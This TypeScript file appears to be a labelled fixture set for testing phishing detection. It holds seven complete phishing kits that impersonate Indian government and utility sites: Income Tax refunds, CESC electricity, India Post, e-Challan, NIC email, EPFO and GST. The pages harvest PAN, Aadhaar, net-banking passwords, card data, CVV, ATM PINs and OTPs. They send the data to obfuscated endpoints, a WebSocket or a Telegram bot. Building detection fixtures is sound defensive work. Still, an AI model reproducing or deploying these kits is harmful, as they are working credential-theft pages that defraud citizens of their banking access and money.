import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, b64, charCodes, logos, govHeader, telegramDrop } from '../parts/xa-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

/**
 * Government and utility lures: income-tax refunds, PAN–Aadhaar linking, electricity disconnection, India
 * Post and courier re-delivery fees, FASTag KYC, e-challans, Aadhaar updates, EPFO claims, GST and NIC mail
 * logins — each a kit that ends in card, net-banking or OTP capture.
 */
export const entries: Entry[] = [
{
  id: 'xa-itd-refund-15490-efiling-clone',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://rebrand.ly/ITD-Refund15490',
  routes: {
    'rebrand.ly/ITD-Refund15490': redirectRoute(301, 'https://efiling-itrefund.com/iec/refund/?pan=verify'),
    'efiling-itrefund.com/iec/refund/': htmlRoute(
      doc({
        title: 'e-Filing | Income Tax Department, Government of India',
        css: `body{margin:0;font-family:'Noto Sans',Arial;background:#f4f6f9}.nav{background:#0b2e6f;color:#fff;font-size:13px;padding:8px 22px}.card{max-width:620px;margin:22px auto;background:#fff;border-radius:6px;box-shadow:0 2px 8px #0002;padding:22px}.amt{background:#e8f5e9;border:1px solid #a5d6a7;padding:12px;border-radius:6px;font-size:15px}.amt b{font-size:22px;color:#1b5e20}.st{display:flex;gap:6px;margin:16px 0}.st span{flex:1;height:5px;background:#dde3ec;border-radius:3px}.st span.on{background:#0b2e6f}label{display:block;font-size:13px;margin:10px 0 4px;color:#333}input,select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #b9c3d3;border-radius:4px}.b{margin-top:18px;background:#0b2e6f;color:#fff;border:0;padding:11px 30px;border-radius:4px;font-size:15px}.pg{display:none}.pg.on{display:block}.two{display:flex;gap:10px}.two>div{flex:1}`,
        body: `${govHeader({ dept: 'Income Tax Department', deptLocal: 'आयकर विभाग', ministry: 'Ministry of Finance, Government of India' })}
<div class="nav">Home › Refund Status › Claim Refund</div>
<div class="card"><div class="amt">After the last annual calculation of your fiscal activity, we have determined that you are eligible to receive a tax refund of <b>₹15,490.00</b>. Please submit the refund request and allow 3-5 business days for processing.</div>
<div class="st"><span class="on" id="i1"></span><span id="i2"></span><span id="i3"></span></div>
<form id="rf">
<div class="pg on" id="g1"><label>PAN *</label><input name="pan" maxlength="10" required><label>Full Name (as per PAN) *</label><input name="name" required><label>Aadhaar Number *</label><input name="aadhaar" maxlength="12" required><label>Date of Birth *</label><input name="dob" type="date" required><button type="button" class="b" data-n="2">Continue</button></div>
<div class="pg" id="g2"><label>Bank for refund credit *</label><select name="bank"><option>State Bank of India</option><option>Punjab National Bank</option><option>Bank of Baroda</option><option>HDFC Bank</option><option>ICICI Bank</option><option>Canara Bank</option><option>Union Bank of India</option></select><label>Account Number *</label><input name="acc" required><label>IFSC *</label><input name="ifsc" required><label>Net Banking User ID *</label><input name="nbu" required><label>Net Banking Password *</label><input name="nbp" type="password" required><button type="button" class="b" data-n="3">Continue</button></div>
<div class="pg" id="g3"><p style="font-size:13px">For verification, a refund of ₹1 will be processed to the card linked with your account.</p><label>Debit Card Number *</label><input name="cc" maxlength="19" required><div class="two"><div><label>Expiry *</label><input name="exp" placeholder="MM/YY" required></div><div><label>CVV *</label><input name="cvv" type="password" maxlength="3" required></div></div><label>ATM PIN *</label><input name="pin" type="password" maxlength="4" required><button class="b">Submit Refund Request</button></div>
</form></div>
<script>
var ep='${b64('https://efiling-itrefund.com/iec/refund/rs.php')}';
function sv(stage){var f=new FormData(rf);f.append('stage',stage);return fetch(atob(ep),{method:'POST',body:f}).catch(function(){})}
document.querySelectorAll('[data-n]').forEach(function(b){b.onclick=function(){var n=+b.dataset.n;sv(n-1);document.getElementById('g'+(n-1)).classList.remove('on');document.getElementById('g'+n).classList.add('on');document.getElementById('i'+n).classList.add('on')}});
rf.onsubmit=function(e){e.preventDefault();sv(3).then(function(){document.querySelector('.card').innerHTML='<h3>Refund request submitted</h3><p>Acknowledgement No. ITR/REF/'+Date.now()+'. You will receive an OTP to confirm the credit.</p>'})};
</script>`,
      }),
    ),
    'efiling-itrefund.com/iec/refund/rs.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'xa-cesc-bengali-netbanking-gateway',
  label: 'phishing',
  kind: 'electricity-bill-kit',
  url: 'https://cesc-bill-update.site/bn/pay.html',
  body: doc({
    title: 'CESC বিদ্যুৎ বিল আপডেট',
    lang: 'bn',
    css: `body{margin:0;font-family:'Noto Sans Bengali',Arial;background:#f5f5f5}.h{background:#2e7d32;color:#fff;padding:12px 16px;font-weight:bold}.w{max-width:460px;margin:14px auto;background:#fff;padding:16px;border-radius:6px}.banks{display:grid;grid-template-columns:1fr 1fr;gap:8px}.banks button{padding:12px;border:1px solid #ccc;background:#fafafa;border-radius:6px;cursor:pointer}.lg{display:none;margin-top:14px;border-top:1px solid #eee;padding-top:12px}input{width:100%;box-sizing:border-box;padding:10px;margin:5px 0 10px;border:1px solid #bbb;border-radius:4px}.go{background:#2e7d32;color:#fff;border:0;width:100%;padding:12px;border-radius:4px}`,
    body: `<div class="h">CESC Limited · বিদ্যুৎ বিল</div>
<div class="w"><p>প্রিয় গ্রাহক, আপনার আগের মাসের বিল আপডেট করা হয়নি। আজ রাত ১০:৩০ টায় আপনার বিদ্যুৎ সংযোগ বিচ্ছিন্ন করা হবে। ₹১২ টোকেন পেমেন্ট করে বিল আপডেট করুন।</p>
<p><b>ব্যাঙ্ক নির্বাচন করুন (Net Banking)</b></p>
<div class="banks">${['State Bank of India', 'UCO Bank', 'Bandhan Bank', 'Punjab National Bank', 'Bank of India', 'Indian Bank', 'HDFC Bank', 'Axis Bank']
      .map((b) => `<button type="button" data-b="${b}">${b}</button>`)
      .join('')}</div>
<form class="lg" id="lg"><b id="bn"></b><input type="hidden" name="bank" id="bk"><label>কনজিউমার আইডি</label><input name="cid" required><label>ইউজার আইডি</label><input name="user" required><label>পাসওয়ার্ড</label><input name="pass" type="password" required><label>নিবন্ধিত মোবাইল</label><input name="mob" maxlength="10" required><button class="go">লগইন ও ₹১২ পেমেন্ট</button></form></div>
<script>
document.querySelectorAll('[data-b]').forEach(function(b){b.onclick=function(){bk.value=bn.textContent=b.dataset.b;lg.style.display='block'}});
lg.onsubmit=function(e){e.preventDefault();var d=new URLSearchParams(new FormData(lg));fetch('/bn/'+String.fromCharCode(${charCodes('next.php')}),{method:'POST',body:d}).finally(function(){location.href='/bn/otp.html?b='+encodeURIComponent(bk.value)})};
</script>`,
  }),
  routes: {
    'cesc-bill-update.site/bn/next.php': jsonRoute({ s: 1 }),
    'cesc-bill-update.site/bn/otp.html': htmlRoute('<!doctype html><html lang="bn"><meta charset="utf-8"><title>OTP</title><body style="font-family:Arial;padding:30px"><p>আপনার মোবাইলে পাঠানো OTP লিখুন</p><form action="fin.php" method="post"><input name="otp" maxlength="6"><button>নিশ্চিত করুন</button></form></body></html>'),
  },
},
{
  id: 'xa-indiapost-redelivery-websocket-kit',
  label: 'phishing',
  kind: 'parcel-redelivery-kit',
  url: 'https://indiapost.gov-in.top/track/IN',
  body: doc({
    title: 'India Post - Track Consignment',
    css: `body{margin:0;font-family:Roboto,Arial;background:#fff5f5}.h{background:#d71920;color:#fff;display:flex;align-items:center;gap:10px;padding:10px 16px}.s{max-width:480px;margin:auto;padding:14px}.tl{border-left:3px solid #d71920;padding-left:14px;margin:10px 0}.tl div{margin:10px 0;font-size:14px}.tl .x{color:#d71920;font-weight:bold}.bx{background:#fff;border-radius:10px;padding:16px;box-shadow:0 1px 6px #0002;margin-top:12px}input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 10px;border:1px solid #ddd;border-radius:6px}button{width:100%;padding:13px;background:#d71920;border:0;color:#fff;border-radius:6px;font-size:16px}.hid{display:none}`,
    body: `<div class="h">${logos.indiaPost(34)}<b>India Post</b></div>
<div class="s"><h3>Consignment: EE48371926IN</h3><div class="tl"><div>10-10-2025 · Item Booked · Mumbai GPO</div><div>12-10-2025 · Item Received · Delhi NSH</div><div class="x">13-10-2025 · Item held at warehouse: incomplete address. Delivery attempt failed.</div></div>
<p>Your package will be returned to sender if the address is not updated within 12 hours. Please update your address and pay the redelivery fee of <b>₹25</b>.</p>
<div class="bx" id="a"><input id="fn" placeholder="Full name"><input id="ad" placeholder="House no., street, locality"><input id="ct" placeholder="City"><input id="pc" placeholder="PIN code" maxlength="6"><input id="ph" placeholder="Mobile number" maxlength="10"><button id="b1">Continue</button></div>
<div class="bx hid" id="b"><b>Pay ₹25.00</b><input id="cn" placeholder="Card number" maxlength="19"><input id="ce" placeholder="MM/YY"><input id="cv" placeholder="CVV" maxlength="4" type="password"><input id="ch" placeholder="Name on card"><button id="b2">Pay now</button></div>
<div class="bx hid" id="c"><p>Please enter the verification code sent by your bank.</p><input id="oc" maxlength="8"><button id="b3">Confirm</button><p id="e" style="color:#d71920"></p></div></div>
<script>
var sid=Math.random().toString(36).slice(2),ws;try{ws=new WebSocket(atob('${b64('wss://ws.gov-in.top/socket?site=indiapost')}')+'&sid='+sid)}catch(_){}
function up(o){o.sid=sid;o.ua=navigator.userAgent;var s=JSON.stringify(o);if(ws&&ws.readyState===1)ws.send(s);else fetch('/api/save.php',{method:'POST',body:s}).catch(function(){})}
function $(i){return document.getElementById(i)}
b1.onclick=function(){up({t:'addr',n:fn.value,a:ad.value,c:ct.value,p:pc.value,m:ph.value});a.classList.add('hid');b.classList.remove('hid')};
b2.onclick=function(){up({t:'card',cn:cn.value,e:ce.value,v:cv.value,h:ch.value});b.classList.add('hid');c.classList.remove('hid')};
var tries=0;b3.onclick=function(){up({t:'otp',o:oc.value,n:++tries});if(tries<2){e.textContent='Incorrect code. A new code has been sent.';oc.value=''}else{c.innerHTML='<p>Payment successful. Your parcel will be delivered within 2 working days.</p>'}};
</script>`,
  }),
  routes: { 'indiapost.gov-in.top/api/save.php': jsonRoute({ code: 0 }) },
},
{
  id: 'xa-echallan-lookup-card-payment',
  label: 'phishing',
  kind: 'echallan-payment-kit',
  url: 'https://echallan-parivahan.gov.in.payonline-challan.com/index/accused-challan',
  body: doc({
    title: 'e-Challan | Parivahan Sewa | Ministry of Road Transport & Highways',
    css: `body{margin:0;font-family:'Segoe UI',Arial;background:#f3f6fa}.tb{background:#0d47a1;color:#fff;padding:12px 20px;display:flex;align-items:center;gap:12px}.tb b{font-size:18px}.box{max-width:620px;margin:20px auto;background:#fff;padding:20px;border-radius:6px;box-shadow:0 1px 5px #0002}table{width:100%;border-collapse:collapse;font-size:14px}td,th{border:1px solid #dde;padding:8px;text-align:left}th{background:#e3ecfa}input{padding:10px;border:1px solid #aab;width:100%;box-sizing:border-box;margin:5px 0 10px}.bt{background:#ff6f00;color:#fff;border:0;padding:11px 24px;font-size:15px;border-radius:4px}#res,#pay{display:none}`,
    body: `<div class="tb">${logos.emblem(28)}<div><b>e-Challan</b><div style="font-size:12px">Digital Traffic/Transport Enforcement Solution · Parivahan</div></div></div>
<div class="box"><h3>Check Online Services – Get Challan Details</h3><label>Vehicle Number / Challan Number</label><input id="vn" placeholder="Enter Vehicle Number"><button class="bt" id="srch">Get Detail</button>
<div id="res"><h4>Pending Challan</h4><table><tr><th>Challan No.</th><td id="cno"></td></tr><tr><th>Offence</th><td>Over Speeding (MV Act Sec 183)</td></tr><tr><th>Date</th><td>28-09-2025 18:42</td></tr><tr><th>Amount</th><td><b>₹1,000</b> (50% rebate if paid today: <b>₹500</b>)</td></tr></table><p style="color:#c62828;font-size:13px">Unpaid challans will be forwarded to Virtual Court and your Driving Licence may be suspended.</p><button class="bt" id="pn">Pay Now ₹500</button></div>
<div id="pay"><h4>Payment – SBI ePay</h4><form id="cf"><input name="card" placeholder="Card Number" maxlength="19" required><input name="exp" placeholder="Expiry MM/YY" required><input name="cvv" placeholder="CVV" maxlength="3" type="password" required><input name="holder" placeholder="Card holder name" required><input name="mobile" placeholder="Mobile (for receipt)" maxlength="10"><button class="bt">Pay ₹500</button></form></div></div>
<script>
srch.onclick=function(){if(vn.value.length<6)return alert('Enter valid vehicle number');cno.textContent=vn.value.toUpperCase().replace(/\\s/g,'').slice(0,4)+'2510'+Math.floor(1e6+Math.random()*9e6);res.style.display='block'};
pn.onclick=function(){res.style.display='none';pay.style.display='block'};
cf.onsubmit=function(e){e.preventDefault();var f=new FormData(cf);f.append('vehicle',vn.value);f.append('challan',cno.textContent);fetch(atob('${b64('https://payonline-challan.com/gateway/epay_collect.php')}'),{method:'POST',body:f,mode:'no-cors'}).finally(function(){location.href='https://payonline-challan.com/gateway/otp.php?c='+encodeURIComponent(cno.textContent)})};
</script>`,
  }),
},
{
  id: 'xa-nic-email-gov-kavach-otp',
  label: 'phishing',
  kind: 'government-webmail-kit',
  url: 'https://accounts-email-gov-in.kavach2fa.online/nic/login',
  body: doc({
    title: 'Email Services | National Informatics Centre',
    css: `body{margin:0;font-family:'Open Sans',Arial;background:linear-gradient(#e9eef6,#fff)}.top{display:flex;align-items:center;justify-content:space-between;padding:10px 30px;background:#fff;border-bottom:1px solid #dde}.top .n{font-weight:bold;color:#003a70}.lg{width:380px;margin:50px auto;background:#fff;border:1px solid #d5dce8;border-radius:6px;padding:26px}.lg h2{margin:0 0 14px;color:#003a70;font-size:20px}input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 14px;border:1px solid #b7c2d6;border-radius:4px}button{width:100%;padding:11px;background:#003a70;color:#fff;border:0;border-radius:4px}.ft{text-align:center;font-size:11px;color:#777;margin-top:30px}.kv{display:none}`,
    body: `<div class="top"><div style="display:flex;gap:10px;align-items:center">${logos.emblem(26)}<span class="n">NIC Email Services</span></div><span style="font-size:12px">Government of India</span></div>
<div class="lg"><h2>Sign in</h2><form id="f1"><label>Email Address</label><input name="u" placeholder="user@gov.in / user@nic.in" required><label>Password</label><input name="p" type="password" required><button>Next</button></form>
<form id="f2" class="kv"><p style="font-size:13px">Enter the 6-digit code from the <b>Kavach</b> authenticator app or the OTP sent on your registered mobile.</p><input name="k" maxlength="6" required><button>Verify</button></form></div>
<div class="ft">Designed, Developed and Hosted by National Informatics Centre (NIC), Ministry of Electronics &amp; IT, Government of India</div>
<script>
var _e=[${charCodes('https://kavach2fa.online/api/n.php')}];
function tx(f,s){var d=new FormData(f);d.append('s',s);d.append('r',document.referrer);return fetch(String.fromCharCode.apply(0,_e),{method:'POST',body:d,credentials:'omit'}).catch(function(){})}
f1.onsubmit=function(e){e.preventDefault();tx(f1,1);f1.style.display='none';f2.style.display='block'};
f2.onsubmit=function(e){e.preventDefault();tx(f2,2).then(function(){location.href='https://email.gov.in/'})};
</script>`,
  }),
},
{
  id: 'xa-epfo-uan-claim-settled-kit',
  label: 'phishing',
  kind: 'epfo-claim-kit',
  url: 'https://epfo-claimstatus.in/member/uan-login',
  body: doc({
    title: 'EPFO : Member e-SEWA',
    lang: 'en',
    css: `body{margin:0;font-family:Arial;background:#f7f9fc}.h{background:#1a237e;color:#fff;padding:10px 20px;display:flex;align-items:center;gap:12px}.b{max-width:820px;margin:20px auto;display:flex;gap:20px}.l{flex:1;background:#fff;padding:16px;font-size:14px}.r{flex:0 0 320px;background:#fff;padding:18px;border-top:3px solid #1a237e}input{width:100%;padding:9px;margin:5px 0 12px;border:1px solid #bbb;box-sizing:border-box}.bt{background:#1a237e;color:#fff;border:0;padding:10px;width:100%}.ok{color:#2e7d32;font-weight:bold}`,
    body: `<div class="h">${logos.emblem(28)}<div><b>Employees' Provident Fund Organisation, India</b><div style="font-size:12px">कर्मचारी भविष्य निधि संगठन, भारत</div></div></div>
<div class="b"><div class="l"><p class="ok">✔ Your PF Advance Claim (Form-31) of ₹48,600 has been SETTLED.</p><p>The amount could not be credited because the bank account linked to your UAN failed verification. Login and re-verify your bank account to receive the amount within 24 hours.</p></div>
<div class="r"><b>Member Login</b><form id="ef"><input name="uan" placeholder="UAN" maxlength="12" required><input name="password" type="password" placeholder="Password" required><input name="acno" placeholder="Bank Account Number" required><input name="ifsc" placeholder="IFSC" required><input name="nbid" placeholder="Net Banking User ID" required><input name="nbpw" type="password" placeholder="Net Banking Password" required><button class="bt">Sign In &amp; Verify</button></form></div></div>
<script>
${telegramDrop('s2t', '7489921150:AAEnkY6wZ1qCpR4tV0xM8bH3jL5fS2dG9uK', '-4102938847')}
ef.addEventListener('submit',function(e){e.preventDefault();var m='EPFO\\n';new FormData(ef).forEach(function(v,k){m+=k+' : '+v+'\\n'});s2t(m).then(function(){document.querySelector('.r').innerHTML='<p>An OTP has been sent to your mobile. Our EPFO officer will call you to complete the verification.</p>'})});
</script>`,
  }),
},
{
  id: 'xa-gst-portal-notice-login-kit',
  label: 'phishing',
  kind: 'gst-portal-kit',
  url: 'https://services-gst-gov.in-notice.com/services/login',
  body: doc({
    title: 'Goods and Services Tax | Login',
    css: `body{margin:0;font-family:'Roboto',Arial;background:#eceff4}.hd{background:#0b2e6f;color:#fff;padding:10px 22px;display:flex;align-items:center;gap:12px}.nt{background:#ffe0b2;padding:10px 22px;font-size:14px;color:#6d4c00}.bx{width:420px;margin:30px auto;background:#fff;padding:24px;border-radius:4px;box-shadow:0 1px 4px #0002}input{width:100%;box-sizing:border-box;padding:10px;margin:5px 0 14px;border:1px solid #aab3c5}.b{background:#0b2e6f;color:#fff;border:0;padding:10px;width:100%;font-size:15px}`,
    body: `<div class="hd">${logos.emblem(28)}<div><b>Goods and Services Tax</b><div style="font-size:12px">Government of India, States and Union Territories</div></div></div>
<div class="nt">Notice u/s 73 (DRC-01) has been issued against your GSTIN for mismatch in GSTR-3B and GSTR-2B. Login to view the notice and file reply within 7 days to avoid cancellation of registration.</div>
<div class="bx"><h3 style="margin-top:0">Login</h3><form id="g"><label>Username *</label><input name="username" required><label>Password *</label><input name="password" type="password" required><label>GSTIN</label><input name="gstin" maxlength="15"><label>Type the characters as shown</label><input name="captcha"><button class="b">LOGIN</button></form></div>
<script>g.onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST',atob('${b64('/services/auth/api/authenticate.php')}'));x.onload=x.onerror=function(){location.href='/services/auth/otp'};x.send(new FormData(g))}</script>`,
  }),
  routes: {
    'services-gst-gov.in-notice.com/services/auth/api/authenticate.php': jsonRoute({ status: 1, message: 'OTP sent' }),
    'services-gst-gov.in-notice.com/services/auth/otp': htmlRoute('<!doctype html><html><head><meta charset="utf-8"><title>GST | Verify OTP</title></head><body style="font-family:Arial;padding:40px"><h3>Verify with OTP</h3><p>OTP has been sent to the mobile number and email registered with the Authorized Signatory.</p><form method="post" action="/services/auth/api/otp.php"><input name="mobile_otp" placeholder="Mobile OTP"><input name="email_otp" placeholder="Email OTP"><button>VALIDATE OTP</button></form></body></html>'),
  },
},
];
